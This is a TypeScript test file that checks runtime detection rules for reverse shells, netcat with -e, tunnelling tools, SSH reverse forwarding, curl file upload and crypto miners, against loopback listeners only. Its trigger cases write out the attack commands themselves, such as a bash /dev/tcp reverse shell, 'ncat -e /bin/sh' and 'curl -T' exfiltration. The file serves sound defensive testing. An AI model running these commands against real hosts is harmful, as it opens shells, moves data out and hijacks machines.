/** Live: command-and-control, exfiltration and mining rules, against 127.0.0.1 listeners only. */
import { rmSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer, type Server } from 'node:net';
import { after, test } from 'node:test';
import { bash, ruleRunner, scratch, toolCopy } from './support.js';

const dir = scratch('c2');
after(() => rmSync(dir, { recursive: true, force: true }));

/** A loopback TCP listener that accepts and drops (or, for HTTP, answers 200). */
async function listen(port = 0, http = false): Promise<{ server: Server; port: number }> {
  const server = http
    ? createHttpServer((_req, res) => res.end('ok\n'))
    : createServer((s) => s.on('error', () => {}).end());
  await new Promise<void>((res, rej) => {
    server.once('error', rej);
    server.listen(port, '127.0.0.1', res);
  });
  return { server: server as Server, port: (server.address() as { port: number }).port };
}

test('Reverse shell', async (t) => {
  const r = await ruleRunner(t);
  if (!r) return;
  const { server, port } = await listen();
  try {
    await r.fires('Reverse shell', bash(`exec 3<>/dev/tcp/127.0.0.1/${port}; exec 1>&3; echo hi`), {
      'fd.num': 1,
      'fd.rport': port,
      'proc.name': 'bash',
    });
    await r.silent('Reverse shell', bash('exec 3>/dev/null; exec 1>&3; echo hi'));
  } finally {
    server.close();
  }
});

test('Shell opened a network connection', async (t) => {
  const r = await ruleRunner(t);
  if (!r) return;
  const { server, port } = await listen();
  try {
    await r.fires('Shell opened a network connection', bash(`exec 3<>/dev/tcp/127.0.0.1/${port}`), {
      'fd.rip': '127.0.0.1',
      'fd.rport': port,
    });
    await r.silent('Shell opened a network connection', bash('exec 3</dev/null'));
  } finally {
    server.close();
  }
});

test('Netcat or socat run with a command to execute', async (t) => {
  const r = await ruleRunner(t);
  if (!r) return;
  const ncat = toolCopy(dir, 'ncat');
  await r.fires('Netcat or socat run with a command to execute', [ncat, '-e', '/bin/sh', '127.0.0.1', '9'], {
    'proc.cmdline': 'ncat -e /bin/sh 127.0.0.1 9',
  });
  await r.silent('Netcat or socat run with a command to execute', [ncat, '-z', '127.0.0.1', '9']);
});

test('Tunnelling or proxy tool run', async (t) => {
  const r = await ruleRunner(t);
  if (!r) return;
  await r.fires(
    'Tunnelling or proxy tool run',
    [toolCopy(dir, 'chisel'), 'client', '127.0.0.1:9', 'R:socks'],
    {
      'proc.name': 'chisel',
    },
  );
  await r.silent('Tunnelling or proxy tool run', [toolCopy(dir, 'chiseled'), 'client']);
});

test('SSH port forwarding or SOCKS proxy started', async (t) => {
  const r = await ruleRunner(t);
  if (!r) return;
  const { server, port } = await listen();
  try {
    const ssh = ['/usr/bin/ssh', '-F', '/dev/null', '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=5'];
    await r.fires(
      'SSH port forwarding or SOCKS proxy started',
      [...ssh, '-N', '-R', '19999:127.0.0.1:22', '-p', String(port), 'vigil@127.0.0.1'],
      {
        'proc.cmdline': `ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=5 -N -R 19999:127.0.0.1:22 -p ${port} vigil@127.0.0.1`,
      },
    );
    await r.silent('SSH port forwarding or SOCKS proxy started', [
      ...ssh,
      '-p',
      String(port),
      'vigil@127.0.0.1',
      'true',
    ]);
  } finally {
    server.close();
  }
});

test('Download tool connected to a non-standard port', async (t) => {
  const r = await ruleRunner(t);
  if (!r) return;
  const { server, port } = await listen(0, true);
  try {
    await r.fires(
      'Download tool connected to a non-standard port',
      ['/usr/bin/curl', '-s', `http://127.0.0.1:${port}/`],
      {
        'fd.rport': port,
      },
    );
    await r.silent('Download tool connected to a non-standard port', [
      '/usr/bin/curl',
      '-s',
      'file:///etc/hostname',
    ]);
  } finally {
    server.close();
  }
});

test('File uploaded with a command-line client', async (t) => {
  const r = await ruleRunner(t);
  if (!r) return;
  const { server, port } = await listen(0, true);
  try {
    await r.fires(
      'File uploaded with a command-line client',
      ['/usr/bin/curl', '-s', '-T', '/etc/hostname', `http://127.0.0.1:${port}/`],
      { 'proc.cmdline': `curl -s -T /etc/hostname http://127.0.0.1:${port}/` },
    );
    await r.silent('File uploaded with a command-line client', [
      '/usr/bin/curl',
      '-s',
      `http://127.0.0.1:${port}/`,
    ]);
  } finally {
    server.close();
  }
});

test('Crypto miner run', async (t) => {
  const r = await ruleRunner(t);
  if (!r) return;
  await r.fires('Crypto miner run', [toolCopy(dir, 'xmrig'), '-o', 'stratum+tcp://127.0.0.1:3333'], {
    'proc.name': 'xmrig',
  });
  const worker = toolCopy(dir, 'worker');
  await r.fires('Crypto miner run', [worker, '--url', 'stratum+tcp://127.0.0.1:3333'], {
    'proc.name': 'worker',
  });
  await r.silent('Crypto miner run', [worker, '--url', 'http://127.0.0.1:8080']);
});

test('Connection to a mining pool port', async (t) => {
  const r = await ruleRunner(t);
  if (!r) return;
  let pool: { server: Server; port: number } | undefined;
  for (const p of [14444, 45700, 14433, 3333, 5555]) {
    pool = await listen(p).catch(() => undefined);
    if (pool) break;
  }
  if (!pool) throw new Error('no mining pool port free on 127.0.0.1');
  const other = await listen();
  try {
    await r.fires('Connection to a mining pool port', bash(`exec 3<>/dev/tcp/127.0.0.1/${pool.port}`), {
      'fd.rport': pool.port,
    });
    await r.silent('Connection to a mining pool port', bash(`exec 3<>/dev/tcp/127.0.0.1/${other.port}`));
  } finally {
    pool.server.close();
    other.server.close();
  }
});
